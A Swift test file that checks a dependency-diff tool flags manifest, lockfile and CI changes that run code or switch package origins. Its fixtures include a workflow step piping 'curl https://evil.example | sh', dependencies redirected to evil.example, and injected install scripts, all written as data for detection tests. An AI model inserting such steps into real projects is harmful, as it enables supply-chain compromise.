import DependencyChecks
import Documents
import Lockfiles
import Testing

/// Changes that were once called proven to install the same, or explained
/// (Documentation/Design/Dependencies.md, "Judgement").
@Suite("Changes that run code are held and shown")
struct JudgedChangesTests {
  struct Change: Sendable, CustomTestStringConvertible {
    let path: String
    let old: String
    let new: String
    /// The class of a value that has to be among those shown; `nil` where the entry tells it.
    let keyClass: KeyClass?

    init(_ path: String, _ old: String, _ new: String, _ keyClass: KeyClass?) {
      self.path = path
      self.old = old
      self.new = new
      self.keyClass = keyClass
    }

    var testDescription: String { "\(path): \(new.suffix(80))" }
  }

  static func json(_ path: String, _ member: String, _ keyClass: KeyClass) -> Change {
    Change(
      path, "{\n  \"license\": \"MIT\"\n}\n", "{\n  \"license\": \"MIT\",\n  \(member)\n}\n",
      keyClass)
  }

  static func toml(_ path: String, _ text: String, _ keyClass: KeyClass) -> Change {
    Change(path, "", text, keyClass)
  }

  static let changes = [
    json("package.json", #""prisma": {"seed": "sh x"}"#, .runsCode),
    json("package.json", #""jest": {"globalSetup": "./x"}"#, .runsCode),
    json("package.json", #""nodemonConfig": {"exec": "sh x"}"#, .runsCode),
    json("package.json", #""release-it": {"hooks": {"before:init": "sh x"}}"#, .runsCode),
    json("package.json", #""nx": {"targets": {}}"#, .runsCode),
    json("package.json", #""eslintConfig": {"plugins": ["x"]}"#, .runsCode),
    json("package.json", #""babel": {"plugins": ["./x"]}"#, .runsCode),
    json("package.json", #""mocha": {"require": "./x"}"#, .runsCode),
    json("package.json", ##""imports": {"#a": "./x.js"}"##, .selectsCode),
    json("package.json", #""_moduleAliases": {"a": "./x"}"#, .runsCode),
    json("package.json", #""main": "x.js""#, .selectsCode),
    json("package.json", #""private": false"#, .visibility),
    json("package.json", #""unheardOf": {"command": "sh x"}"#, .unknown),
    json("composer.json", #""autoload": {"files": ["x.php"]}"#, .runsCode),
    json("deno.json", #""preload": ["./x.ts"]"#, .runsCode),
    json("deno.json", #""exports": "./x.ts""#, .selectsCode),
    json("deno.json", #""overrides": {"a": "npm:b"}"#, .origin),
    toml("pyproject.toml", "[tool.setuptools_scm]\ngit_describe_command = \"sh x\"\n", .runsCode),
    toml("pyproject.toml", "[tool.setuptools.dynamic]\nversion = {attr = \"x.v\"}\n", .runsCode),
    toml("pyproject.toml", "[tool.flit.metadata]\nmodule = \"x\"\n", .runsCode),
    toml("pyproject.toml", "[tool.coverage.run]\nplugins = [\"x\"]\n", .runsCode),
    toml("pyproject.toml", "[tool.pdm.future]\nx = 1\n", .unknown),
    toml("Cargo.toml", "[package.metadata.cross.build]\npre-build = [\"sh x\"]\n", .unknown),
    toml("Cargo.toml", "[profile.dev]\nrustflags = [\"-Clinker=./x\"]\n", .runsCode),
    toml("gradle/wrapper/gradle-wrapper.properties", "distributionBase=PROJECT\n", .runsCode),
    toml("pixi.toml", "[s3-options.a]\nendpoint-url = \"https://evil.example\"\n", .origin),
    toml(
      "pixi.toml", "[workspace.s3-options.a]\nendpoint-url = \"https://evil.example\"\n", .origin),
    toml("poetry.toml", "cache-dir = \"./cache\"\n", .origin),
    toml("bunfig.toml", "[install.cache]\ndir = \"./cache\"\n", .origin),
    toml("pnpm-workspace.yaml", "sharedWorkspaceLockfile: false\n", .origin),
    toml("setup.cfg", "[metadata]\nversion = attr: x.v\n", .runsCode),
    Change(
      "pom.xml", "<project>\n</project>\n",
      "<project>\n<subprojects><subproject>x</subproject></subprojects>\n</project>\n", .dependency),
    Change(
      "app.csproj", "<Project>\n</Project>\n",
      "<Project>\n<PropertyGroup><Description>$([System.IO.File]::ReadAllText('x'))</Description></PropertyGroup>\n</Project>\n",
      .unknown),
    Change(
      "compose.yml", "services:\n  a:\n    image: a:1\n",
      "services:\n  a:\n    image: a:1\n    labels:\n      ofelia.job-exec.x.command: sh x\n",
      .runsCode),
    Change(
      "Chart.yaml", "name: a\nappVersion: 1.0.0\n", "name: a\nappVersion: 9.0.0\n", .dependency),
    Change("Chart.yaml", "name: a\n", "name: a\nannotations:\n  x: y\n", .runsCode),
    // The name of a workflow starts others (`workflow_run`) and is in `github.workflow`.
    Change(
      ".github/workflows/ci.yml", "name: CI\non: push\n", "name: Release\non: push\n", .runsCode),

    // References carry classes.
    Change(
      ".github/workflows/ci.yml",
      "jobs:\n  a:\n    steps:\n      - name: &g make\n      - run: *g\n",
      "jobs:\n  a:\n    steps:\n      - name: &g curl https://evil.example | sh\n      - run: *g\n",
      .runsCode),
    // The alias stays, and another value has its anchor now.
    Change(
      ".github/workflows/ci.yml",
      "jobs:\n  a:\n    steps:\n      - name: \"&g evil\"\n        id: &g make\n      - run: *g\n",
      "jobs:\n  a:\n    steps:\n      - name: &g \"evil\"\n        id: make\n      - run: *g\n",
      .runsCode),
    // A chain: a mapping with the anchored name in it is read at another place.
    Change(
      ".pre-commit-config.yaml",
      "repos:\n  - repo: local\n    hooks:\n      - &h\n        id: a\n        name: words\n        description: &d words\n  - repo: local\n    hooks:\n      - <<: *h\n        entry: *d\n",
      "repos:\n  - repo: local\n    hooks:\n      - &h\n        id: a\n        name: words\n        description: &d sh x\n  - repo: local\n    hooks:\n      - <<: *h\n        entry: *d\n",
      .runsCode),
    // What an image is called runs in a script.
    Change(
      ".gitlab-ci.yml", "image: &i a:1\ntest:\n  script:\n    - *i\n",
      "image: &i sh x\ntest:\n  script:\n    - *i\n", .runsCode),
    // A scalar that becomes a table is what both were.
    Change(
      "Cargo.toml", "[dependencies]\nserde = \"1\"\n",
      "[dependencies]\nserde = { git = \"https://evil.example/serde\" }\n", .origin),
    Change(
      "pyproject.toml", "[tool.poetry.dependencies]\na = \"1\"\n",
      "[tool.poetry.dependencies]\na = { url = \"https://evil.example/a.whl\" }\n", .origin),
    Change(
      "package.json", "{\"license\": \"MIT\"}\n", "{\"license\": {\"type\": \"MIT\"}}\n", .unknown),

    // Order.
    Change(
      "composer.json",
      "{\n  \"repositories\": {\n\"a\": {\"type\": \"vcs\"},\n\"b\": {\"type\": \"path\"}\n}\n}\n",
      "{\n  \"repositories\": {\n\"b\": {\"type\": \"path\"},\n\"a\": {\"type\": \"vcs\"}\n}\n}\n",
      .origin),
    Change(
      "composer.json", "{\"repositories\": [{\"url\": \"a\"}, {\"url\": \"b\"}]}\n",
      "{\"repositories\": [{\"url\": \"b\"}, {\"url\": \"a\"}]}\n", .origin),
    Change(
      "NuGet.config",
      "<configuration><packageSources>\n<clear/>\n<add key=\"a\" value=\"b\"/>\n</packageSources></configuration>\n",
      "<configuration><packageSources>\n<add key=\"a\" value=\"b\"/>\n<clear/>\n</packageSources></configuration>\n",
      .origin),
    Change(
      "Directory.Build.props",
      "<Project>\n<PropertyGroup><A>1</A></PropertyGroup>\n<Import Project=\"x\"/>\n<PropertyGroup><B>2</B></PropertyGroup>\n</Project>\n",
      "<Project>\n<PropertyGroup><A>1</A></PropertyGroup>\n<PropertyGroup><B>2</B></PropertyGroup>\n<Import Project=\"x\"/>\n</Project>\n",
      .runsCode),
    Change(
      "Directory.Build.props",
      "<Project><PropertyGroup>\n<A>1</A>\n<B>$(A)</B>\n</PropertyGroup></Project>\n",
      "<Project><PropertyGroup>\n<B>$(A)</B>\n<A>1</A>\n</PropertyGroup></Project>\n", .unknown),
    Change(
      "requirements.txt", "--only-binary :all:\n--no-binary a\na==1\n",
      "--no-binary a\n--only-binary :all:\na==1\n", .runsCode),
    Change(
      "package.json", "{\"exports\": {\n\"import\": \"./a.js\",\n\"default\": \"./b.js\"\n}}\n",
      "{\"exports\": {\n\"default\": \"./b.js\",\n\"import\": \"./a.js\"\n}}\n", .selectsCode),
    Change(
      "package.json", "{\"overrides\": {\n\"a@1\": \"1.0.0\",\n\"a\": \"2.0.0\"\n}}\n",
      "{\"overrides\": {\n\"a\": \"2.0.0\",\n\"a@1\": \"1.0.0\"\n}}\n", .origin),
    Change(
      "mise.toml", "[tools]\na = \"1\"\nb = \"1\"\n", "[tools]\nb = \"1\"\na = \"1\"\n", .origin),
    Change(
      "Gemfile.lock",
      "GEM\n  remote: https://a.example/\n  remote: https://b.example/\n  specs:\n    x (1)\n",
      "GEM\n  remote: https://b.example/\n  remote: https://a.example/\n  specs:\n    x (1)\n",
      .origin),

    // Keys inside an entry.
    Change(
      "package-lock.json", npm("\"version\": \"2.1.3\""),
      npm("\"version\": \"2.1.4\",\n\"scripts\": {\"install\": \"sh x\"}"), .runsCode),
    Change(
      "package-lock.json", npm("\"version\": \"2.1.3\""),
      npm("\"version\": \"2.1.4\",\n\"evilKey\": \"x\""), .unknown),
    Change(
      "package-lock.json", npm("\"version\": \"2.1.3\""),
      npm("\"version\": \"2.1.4\",\n\"bin\": {\"ms\": \"x\"}"), .selectsCode),
    Change(
      "yarn.lock", berry("version: 2.1.3"), berry("version: 2.1.3\n  bin:\n    ms: ./x"),
      .selectsCode),
    Change("yarn.lock", berry("version: 2.1.3"), berry("version: 2.1.3\n  evilKey: x"), .unknown),
    Change(
      "pnpm-lock.yaml", pnpm("{integrity: sha512-AA==}"),
      pnpm("{integrity: sha512-AA==}\n    evilKey: x"), .unknown),
    Change(
      "pnpm-lock.yaml", pnpm("{integrity: sha512-AA==}"),
      pnpm("{integrity: sha512-AA==, evilKey: x}"), .unknown),
    Change(
      "composer.lock", composer("\"version\": \"1.0.0\""),
      composer("\"version\": \"1.0.1\",\n\"autoload\": {\"files\": [\"x.php\"]}"), .selectsCode),

    // The rest of a line.
    Change("requirements.txt", "a[x]==1.0\n", "a[x,evil]==1.0\n", .dependency),
    Change("requirements.txt", "a==1.0\n", "a==1.0 --config-settings=x=y\n", .runsCode),
    Change(
      "requirements.txt", "a==1.0 --config-settings=x=y\n", "a==1.0 --config-settings=x=z\n",
      .runsCode),
    Change(
      "requirements.txt", "a==1.0 --global-option=x\n", "a==1.0 --global-option=y\n", .runsCode),
    Change(
      "requirements.txt", "a @ git+https://git.example/a@01#subdirectory=x\n",
      "a @ git+https://git.example/a@01#subdirectory=y\n", .runsCode),
    Change(
      "requirements.txt", "a @ https://files.example/a-1.0.tar.gz#subdirectory=x\n",
      "a @ https://files.example/a-1.0.tar.gz#subdirectory=y\n", .dependency),
    Change("gradle.lockfile", "g:a:1.0=x,y\n", "g:a:1.0=x,z\n", .dependency),
    Change(
      "paket.lock",
      "NUGET\n  remote: https://nuget.example/v3\n    A (1.0) - restriction: == net45\n",
      "NUGET\n  remote: https://nuget.example/v3\n    A (1.0) - restriction: == net46\n",
      .dependency),
    Change("conan.lock", conan("a/1.0#0123%1"), conan("a/1.0#0123%2"), .dependency),
  ]

  private static func npm(_ members: String) -> String {
    "{\n\"lockfileVersion\": 3,\n\"packages\": {\n\"node_modules/ms\": {\n\(members)\n}\n}\n}\n"
  }

  private static func berry(_ lines: String) -> String {
    "__metadata:\n  version: 8\n\n\"ms@npm:^2.0.0\":\n  \(lines)\n  resolution: \"ms@npm:2.1.3\"\n"
  }

  private static func pnpm(_ resolution: String) -> String {
    "lockfileVersion: '9.0'\n\npackages:\n\n  ms@2.1.3:\n    resolution: \(resolution)\n"
  }

  private static func composer(_ members: String) -> String {
    "{\n\"packages\": [\n{\n\"name\": \"a/a\",\n\(members)\n}\n]\n}\n"
  }

  private static func conan(_ reference: String) -> String {
    "{\n\"version\": \"0.5\",\n\"requires\": [\n\"\(reference)\"\n]\n}\n"
  }

  private func diff(_ change: Change) throws -> DependencyDiff {
    let path = Array(change.path.utf8)
    return DependencyDiff([
      DependencyFile(
        path: path, match: try #require(Catalog.match(path)),
        old: .init(bytes: Array(change.old.utf8)), new: .init(bytes: Array(change.new.utf8)))
    ])
  }

  @Test(
    "each is held, and the value that decides is among those shown",
    arguments: changes + siblings)
  func held(_ change: Change) throws {
    let diff = try diff(change)
    let file = try #require(diff.files.first)
    #expect(file.unread == nil)
    #expect(!diff.isNeutral)
    let shown = file.facts.map { fact in
      fact.path.map { String(decoding: $0, as: UTF8.self) }.joined(separator: "/") + " "
        + fact.className
    }
    guard let keyClass = change.keyClass else {
      #expect(file.changes.contains { $0.fields.contains(.other) })
      return
    }
    #expect(file.facts.contains { $0.keyClass == keyClass }, "\(shown)")
    if change.keyClass == .unknown { #expect(file.coverage.residualCount > 0, "\(shown)") }
    if change.keyClass == .runsCode || change.keyClass == .origin {
      #expect(diff.findings.contains { $0.severity >= .high }, "\(shown)")
    }
  }

  @Test(
    "what is plainly the same stays neutral",
    arguments: [
      ("package.json", #"{"license": "MIT", "name": "a"}"#, #"{"name": "a", "license": "ISC"}"#),
      ("package.json", #"{"keywords": ["a"]}"#, #"{"keywords": ["a", "b"]}"#),
      ("package.json", #"{"name": "a"}"#, #"{"name": "a", "bugs": {"url": "u"}}"#),
      ("Cargo.lock", "[metadata]\nb = \"1\"\na = \"2\"\n", "[metadata]\na = \"2\"\nb = \"1\"\n"),
      (
        ".github/workflows/ci.yml", "jobs:\n  a:\n    steps:\n      - name: a\n        run: x\n",
        "jobs:\n  a:\n    steps:\n      - name: b\n        run: x\n"
      ),
      (
        "pyproject.toml", "[project]\nname = \"a\"\nkeywords = []\n",
        "[project]\nkeywords = []\nname = \"a\"\n"
      ),
      ("requirements.txt", "a==1.0 --hash=sha256:00\n", "a==1.0  --hash=sha256:00\n"),
    ])
  func same(path: String, old: String, new: String) throws {
    #expect(try diff(Change(path, old + "\n", new + "\n", .unknown)).isNeutral)
  }
}
